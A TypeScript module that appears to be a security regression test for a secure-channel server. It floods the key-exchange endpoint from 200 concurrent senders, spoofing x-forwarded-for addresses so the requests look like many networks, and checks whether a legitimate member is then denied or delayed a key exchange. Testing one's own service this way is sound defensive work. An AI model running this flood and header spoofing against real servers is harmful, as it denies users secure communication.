import { beginNodeExchange, makeDevice } from '@holdfast/secure-channel/node';
import { defined } from '@holdfast/kernel';
import type { Attack, Target } from './attack.ts';
import { AttackersDevice, withBooks } from './device.ts';

const SENDERS = 200;
const TRIES = 5;
const PATIENCE_MS = 1000;

/** Exchanges were refused by who came first: while they were asked for from many networks, members got none, and so no call through. */
export const attack: Attack = {
  name: 'keep members from exchanging keys by asking for exchanges from many networks',
  run: (target) =>
    withBooks(target, async (books) => {
      const member = await AttackersDevice.register(target, books);
      await member.call('/member/security/devices', {});
      const flood = await startFlood(target);
      try {
        for (let n = 0; n < TRIES; n += 1) {
          const startedAt = performance.now();
          await member.exchangeAgain();
          const tookMs = performance.now() - startedAt;
          if (tookMs > PATIENCE_MS) return `the member waited ${Math.round(tookMs)} ms for an exchange`;
        }
        return 'refused';
      } catch {
        return 'the member got no exchange';
      } finally {
        await flood.stop();
      }
    }),
};

/** Asks again and again, each time from a network of nobody else; begins when the server has refused somebody. */
async function startFlood({ url }: Target): Promise<{ stop: () => Promise<void> }> {
  const { keys } = (await (await fetch(`${url}/proxykeys`)).json()) as { keys: { kid: number; S: string }[] };
  const { kid, S: publicKey } = defined(keys[0], 'a server has a key');
  const { body } = beginNodeExchange({ pin: { kid, publicKey }, device: makeDevice(), now: Date.now() });
  let asked = 0;
  const over = new AbortController();
  const refusal = Promise.withResolvers<void>();
  const ask = async () => {
    while (!over.signal.aborted) {
      asked += 1;
      const address = `172.${(asked >> 8) & 255}.${asked & 255}.1`;
      const headers = { 'content-type': 'application/json', 'x-forwarded-for': address };
      const response = await fetch(`${url}/proxyconfig`, { method: 'POST', headers, body });
      await response.text();
      if (response.status === 503) refusal.resolve();
    }
  };
  const senders = Promise.all(Array.from({ length: SENDERS }, ask));
  await Promise.race([refusal.promise, senders]);
  return {
    async stop() {
      over.abort();
      await senders;
    },
  };
}
